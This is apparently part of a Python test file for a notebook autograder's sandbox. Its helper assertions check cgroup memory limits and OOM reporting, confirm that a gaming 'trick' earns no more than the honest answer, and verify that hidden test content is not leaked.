        # got to print, the children never held more than the allowance together
        assert result.peak_memory is not None, "the grader read no peak from the slot's cgroup"
        assert 300 << 20 <= result.peak_memory <= 2 << 30, f"peak {result.peak_memory >> 20} MiB: {out}"
        oom = any("passed its memory limit" in p for p in result.problems)
        if "HELD" not in out:
            # on a loaded machine the cgroup's reclaim can stall the cell past its time limit
            # before any child is killed: the peak above is the evidence then
            return
        held, killed = int(out.split("HELD", 1)[1].split()[0]), int(out.split("KILLED", 1)[1].split()[0])
        assert held <= 6, f"{held} x 300 MiB held at once under a 2 GiB limit: {out}"
        if killed:   # the cgroup's OOM killer took some: the grader says so
            assert oom, result.problems


def _scores_like(result, ctx, twin: str) -> None:
    """The trick earns nothing: the same score, cell by cell, as the answer without it."""
    twin_result = ctx["results"][twin]
    mine = {role(c).grade_id: c.get("outputs") for c in result.autograded.cells if role(c).is_test}
    theirs = {role(c).grade_id: c.get("outputs") for c in twin_result.autograded.cells if role(c).is_test}
    failing = lambda outputs: any(o.get("output_type") == "error" for o in outputs or [])
    assert {g: failing(o) for g, o in mine.items()} == {g: failing(o) for g, o in theirs.items()}
    assert result.score == twin_result.score


def _hidden_everywhere(result) -> None:
    out = _output_of(result, "shares_memory")
    assert "LEAKED" not in out and out.count("hidden ") == 11, out


def _no(text: str, output: str) -> None:
    assert text not in output, output


def by_name() -> dict[str, Case]:
    return {c.name: c for c in CASES}


def summary() -> str:
    return json.dumps({c.name: c.what for c in CASES}, indent=1)
